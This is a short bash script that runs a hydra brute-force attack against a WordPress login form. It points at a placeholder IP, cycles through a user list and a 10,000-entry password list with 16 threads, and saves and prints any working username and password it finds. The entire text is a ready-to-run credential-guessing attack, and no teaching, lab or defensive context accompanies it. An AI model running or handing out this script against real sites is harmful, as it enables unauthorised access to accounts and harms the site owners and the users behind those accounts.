#!/bin/bash
# login form brute force
TARGET=203.0.113.25
USERS=/content/users.txt
PASS=/content/wordlists/top10k.txt
hydra -L "$USERS" -P "$PASS" -t 16 -f "$TARGET" http-post-form \
  "/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:F=incorrect" -o found.txt
cat found.txt
